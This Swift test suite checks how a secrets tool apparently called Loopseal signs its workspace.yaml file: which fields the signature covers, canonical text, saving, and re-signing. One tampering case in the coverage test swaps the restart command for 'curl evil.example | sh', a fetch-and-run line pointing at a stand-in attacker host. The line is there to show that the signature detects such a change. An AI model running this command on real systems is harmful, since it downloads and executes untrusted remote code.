import Foundation
import LoopsealCrypto
import Testing
@testable import LoopsealStore

/// `workspace.yaml` signatures (docs/FORMAT.md §8, "The signed workspace file"): what they
/// cover, how saving signs, and that formatting is not covered while every acted-on byte is.
@Suite("workspace.yaml signatures")
struct WorkspaceSignatureTests {
    static let alice = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"
    static let bob = "age1lggyhqrw2nlhcxprm67z43rta597azn8gknawjehu9d9dl0jq3yqqvfafg"

    /// A workspace.yaml text for workspace `ws` with writers `ci` and a file target.
    static func text(ci: SigningKey, path: String = "/etc/app.env", command: String = "systemctl restart app",
                     extraRecipient: Bool = false) -> String {
        """
        workspace: ws
        recipients:
          alice: \(alice)
        \(extraRecipient ? "  bob: \(bob)\n" : "")writers:
          ci: \(ci.publicKey)
        targets:
        - name: app
          path: \(path)
          restart: \(command)
          hosts: [web-1, "web-*"]

        """
    }

    static func parse(_ text: String) throws -> WorkspaceConfig {
        try WorkspaceConfig.parse(text, file: "workspace.yaml", expectedID: "ws")
    }

    static func signed(_ text: String, by key: SigningKey) throws -> String {
        text + WorkspaceSignature.block(WorkspaceSignature.sign(try parse(text), with: key))
    }

    @Test("a scalar's canonical text escapes quotes, backslashes and control characters, and nothing else")
    func canonicalText() {
        let node = ConfigNode.mapping([
            ConfigPair(key: .scalar("a\"b\\c", nil), value: .sequence([.scalar("x\ny\t\u{1}\u{7F}é", nil), .scalar("", nil)], nil)),
            ConfigPair(key: .sequence([.scalar("k", nil)], nil), value: .mapping([], nil)),
        ], nil)
        #expect(node.canonicalText == "{\"a\\\"b\\\\c\":[\"x\\ny\\t\\u0001\u{7F}é\",\"\"],[\"k\"]:{}}")
    }

    @Test("the signed bytes: context, writer, workspace, recipients and writers in file order, targets as composed")
    func signedBytes() throws {
        let ci = try SigningKey.generate()
        let config = try Self.parse(Self.text(ci: ci))
        let expected = """
            loopseal-workspace-signature/1
            writer: \(ci.publicKey)
            workspace: ws
            recipients:
              alice: \(Self.alice)
            writers:
              ci: \(ci.publicKey)
            targets: [{"name":"app","path":"/etc/app.env","restart":"systemctl restart app","hosts":["web-1","web-*"]}]

            """
        #expect(String(decoding: WorkspaceSignature.signedBytes(of: config, writer: ci.publicKey), as: UTF8.self) == expected)
        #expect(WorkspaceSignature.status(of: config) == .unsigned)
    }

    @Test("a signature holds over a re-spelled file (comments, flow style, quotes, key case) and breaks on any acted-on change")
    func coverage() throws {
        let ci = try SigningKey.generate()
        let signedText = try Self.signed(Self.text(ci: ci), by: ci)
        let signature = try #require(try Self.parse(signedText).signature)
        #expect(WorkspaceSignature.status(of: try Self.parse(signedText)) == .valid(ci.publicKey))

        let block = WorkspaceSignature.block(signature)
        let respelled = """
            # production hosts only
            workspace: "ws"
            recipients: {alice: '\(Self.alice.uppercased())'}
            writers:
                ci: \(ci.publicKey)   # the CI runner
            targets: [{name: app, path: "/etc/app.env", restart: 'systemctl restart app', hosts: [web-1, 'web-*']}]

            """ + block
        #expect(WorkspaceSignature.status(of: try Self.parse(respelled)) == .valid(ci.publicKey))

        let changes = [
            Self.text(ci: ci, path: "/tmp/app.env"),
            Self.text(ci: ci, command: "curl evil.example | sh"),
            Self.text(ci: ci, extraRecipient: true),
            Self.text(ci: ci).replacingOccurrences(of: "\"web-*\"", with: "\"*\""),
            Self.text(ci: ci).replacingOccurrences(of: "  hosts: [web-1, \"web-*\"]\n", with: ""),
            Self.text(ci: ci).replacingOccurrences(of: "  restart:", with: "  restrt:"),
            Self.text(ci: ci) + "- name: extra\n  path: /tmp/x\n",
        ]
        for changed in changes {
            #expect(WorkspaceSignature.status(of: try Self.parse(changed + block)) == .mismatch(ci.publicKey), "\(changed)")
        }
    }

    @Test("every top-level field but signature is covered: a new one must be added to the signed content")
    func everyFieldIsCovered() {
        #expect(WorkspaceConfig.knownFields == ["workspace", "recipients", "writers", "targets", "signature"],
                "a new workspace.yaml field must be covered by WorkspaceSignature.content(of:) and docs/FORMAT.md §8")
    }

    @Test("a malformed signature block is refused with its position")
    func malformedSignature() throws {
        let ci = try SigningKey.generate()
        let bad = Self.text(ci: ci) + "signature:\n  writer: \(ci.publicKey)\n  ed25519: AAAA\n"
        #expect(throws: StoreError.malformed(file: "workspace.yaml", line: 13, column: 12, problem: "signature must be 64 bytes, got 3")) {
            _ = try Self.parse(bad)
        }
        #expect(throws: StoreError.self) { _ = try Self.parse(Self.text(ci: ci) + "signature: yes\n") }
    }

    /// A workspace listing writer `ci`, with `text` as its workspace.yaml.
    private func workspace(_ text: String) throws -> (TempWorkspace, Workspace) {
        let temp = try TempWorkspace(id: "ws")
        try FileIO.writeAtomically(Array(text.utf8), to: temp.workspace.configPath)
        return (temp, temp.workspace)
    }

    private func loader(_ key: SigningKey?) -> SigningKeyLoader {
        SigningKeyLoader(environment: key.map { ["LOOPSEAL_SIGNING_KEY": $0.encodedSecretKey()] } ?? [:])
    }

    @Test("saving a changed workspace.yaml signs it with a listed writer's key, else leaves it unsigned and says why")
    func savingSigns() throws {
        let ci = try SigningKey.generate(), other = try SigningKey.generate()
        let (temp, workspace) = try workspace(Self.text(ci: ci))
        _ = temp
        var config = try workspace.loadConfig()
        config.recipients.append(Recipient(name: "bob", publicKey: try PublicKey(string: Self.bob)))
        #expect(try workspace.saveConfig(config, signingKeys: loader(ci)) == .signed(writer: Writer(name: "ci", publicKey: ci.publicKey), source: "$LOOPSEAL_SIGNING_KEY"))
        let saved = try workspace.loadConfig()
        #expect(WorkspaceSignature.status(of: saved) == .valid(ci.publicKey))
        #expect(saved.recipients.count == 2)

        config.recipients.removeLast()
        #expect(try workspace.saveConfig(config, signingKeys: loader(other)) == .unsigned(.notAWriter(source: "$LOOPSEAL_SIGNING_KEY", publicKey: other.publicKey)))
        #expect(try workspace.loadConfig().signature == nil)
        config.recipients.append(Recipient(name: "bob", publicKey: try PublicKey(string: Self.bob)))
        #expect(try workspace.saveConfig(config, signingKeys: loader(nil)) == .unsigned(.noSigningKey(searched: ["$LOOPSEAL_SIGNING_KEY", "$LOOPSEAL_SIGNING_KEY_FILE"])))
        #expect(try workspace.saveConfig(config) == .unsigned(.unchanged))
    }

    @Test("an unchanged workspace.yaml is left byte for byte, its valid signature kept")
    func unchangedIsKept() throws {
        let ci = try SigningKey.generate()
        let text = "# reviewed by ops\n" + (try Self.signed(Self.text(ci: ci), by: ci))
        let (temp, workspace) = try workspace(text)
        _ = temp
        #expect(try workspace.saveConfig(try workspace.loadConfig(), signingKeys: loader(ci)) == .kept(writer: Writer(name: "ci", publicKey: ci.publicKey)))
        #expect(String(decoding: try FileIO.contents(workspace.configPath), as: UTF8.self) == text)
    }

    @Test("re-signing keeps the file's text and comments and replaces only the signature block")
    func resignKeepsText() throws {
        let ci = try SigningKey.generate(), ops = try SigningKey.generate()
        let hand = "# targets reviewed by ops\n" + Self.text(ci: ci).replacingOccurrences(of: "writers:\n", with: "writers:\n  ops: \(ops.publicKey)\n")
        let (temp, workspace) = try workspace(hand)
        _ = temp
        let outcome = try workspace.saveConfig(try workspace.loadConfig(), signingKeys: loader(ops), resign: true)
        #expect(outcome == .signed(writer: Writer(name: "ops", publicKey: ops.publicKey), source: "$LOOPSEAL_SIGNING_KEY"))
        let once = String(decoding: try FileIO.contents(workspace.configPath), as: UTF8.self)
        #expect(once.hasPrefix(hand) && once.hasSuffix("\n"))
        #expect(WorkspaceSignature.status(of: try workspace.loadConfig()) == .valid(ops.publicKey))

        _ = try workspace.saveConfig(try workspace.loadConfig(), signingKeys: loader(ci), resign: true)
        let twice = String(decoding: try FileIO.contents(workspace.configPath), as: UTF8.self)
        #expect(twice.hasPrefix(hand) && twice.components(separatedBy: "signature:").count == 2)
        #expect(WorkspaceSignature.status(of: try workspace.loadConfig()) == .valid(ci.publicKey))

        #expect(throws: StoreError.self) { try workspace.saveConfig(try workspace.loadConfig(), signingKeys: loader(nil), resign: true) }
        let stranger = try SigningKey.generate()
        #expect(throws: StoreError.self) { try workspace.saveConfig(try workspace.loadConfig(), signingKeys: loader(stranger), resign: true) }
        #expect(String(decoding: try FileIO.contents(workspace.configPath), as: UTF8.self) == twice)
    }
}
